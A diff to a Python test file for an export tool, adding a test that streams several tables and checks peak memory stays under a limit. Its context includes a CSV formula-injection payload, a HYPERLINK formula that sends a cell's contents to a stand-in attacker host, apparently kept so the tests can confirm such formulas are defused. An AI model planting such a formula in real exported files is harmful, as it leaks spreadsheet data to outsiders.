@@ -6,6 +6,7 @@ import io
 import json
 import os
 import sqlite3
+import tracemalloc
 from contextlib import closing
 from pathlib import Path
 from typing import Any
@@ -21,6 +22,7 @@ from escli.core.intake import Opening
 from escli.core.text import defused, undefused
 from escli.errors import Refused, Unreadable
 from escli.store.columns import TABLES, UNITS
+from tests.benchmarks import desks
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
 
@@ -194,6 +196,18 @@ def test_an_export_sees_one_moment_whoever_writes_meanwhile(session: Session) ->
     exporting.stream(session, Wanted("tickets"), JSONL, out)
     assert len(lines(out.text)) == 1
     assert printed(session, Wanted("tickets"), CSV).count("Meddled") == 1
+
+
+def test_memory_stays_flat_however_large_the_desk(tmp_path: Path) -> None:
+    session = desks.session_at(desks.make(tmp_path, 3_000, 0), desks.MONDAY_9)
+    for table, form in (("tickets", CSV), ("events", JSONL), ("stays", JSONL), ("handoffs", CSV)):
+        tracemalloc.start()
+        with Path(os.devnull).open("w", encoding="utf-8") as out:
+            exporting.stream(session, Wanted(table), form, out)
+        _, most = tracemalloc.get_traced_memory()
+        tracemalloc.stop()
+        assert most < 700_000, f"{table} as {form} needed {most} bytes"
+    session.store.close()
 
 
 class _Meddling:
